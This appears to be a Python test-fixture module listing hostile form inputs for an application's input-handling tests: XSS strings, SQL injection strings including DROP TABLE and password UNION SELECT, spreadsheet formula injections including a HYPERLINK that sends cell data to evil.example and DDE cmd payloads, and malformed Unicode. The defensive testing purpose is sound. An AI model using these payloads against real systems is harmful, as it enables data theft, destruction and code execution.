"""Hostile input every public form must survive: stored or refused, never a 5xx, never run.

Written for these tests (OWASP cheat-sheet classics and spreadsheet-injection forms).
"""

from __future__ import annotations

XSS = (
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(document.cookie)>",
    "javascript:alert(1)",
    "</textarea><script>alert(1)</script>",
    "<iframe src=//evil.example></iframe>",
    "'';!--\"<XSS>=&{()}",
    "{{ request.user.password }}{% debug %}",
)

SQL_INJECTION = (
    "' OR '1'='1",
    "admin'--",
    "'; DROP TABLE accounts_user; --",
    "1 UNION SELECT username, password FROM accounts_user--",
    "\\'; SELECT pg_sleep(10); --",
    "%' AND 1=1 AND '%'='",
)

CSV_FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

ODD_TEXT = (
    "\x00nul",
    "\u202eRTL override",
    "zero\u200bwidth",
    "😀" * 50,
    "å" * 20_000,
    "A" * 200_000,
)

ALL = XSS + SQL_INJECTION + CSV_FORMULAS + ODD_TEXT
